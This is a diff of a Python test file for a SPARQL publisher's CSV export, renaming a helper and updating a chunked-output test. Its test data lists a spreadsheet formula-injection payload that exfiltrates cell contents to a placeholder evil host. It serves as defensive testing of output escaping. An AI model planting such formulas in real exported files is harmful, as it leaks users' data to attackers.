@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 
 from publisher.sparql.engine import Triples
 from publisher.sparql.errors import QueryError
-from publisher.sparql.sheet import guarded, sheet, sheet_of
+from publisher.sparql.sheet import comma_separated, guarded, sheet_of
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"more")',
@@ -71,7 +71,8 @@ def test_terms_are_written_as_sparqls_csv_has_them() -> None:
 
 def test_a_long_answer_comes_in_pieces() -> None:
     rows = " ".join(map(str, range(2_000)))
-    pieces = list(sheet(answer(f"SELECT ?n {{ VALUES ?n {{ {rows} }} }} ORDER BY ?n")))
+    found = answer(f"SELECT ?n {{ VALUES ?n {{ {rows} }} }} ORDER BY ?n")
+    pieces = list(comma_separated(found, is_sheet=True))
     assert len(pieces) > 2
     expected = "n\r\n" + "".join(f"{n}\r\n" for n in range(2_000))
     assert b"".join(pieces).decode() == expected
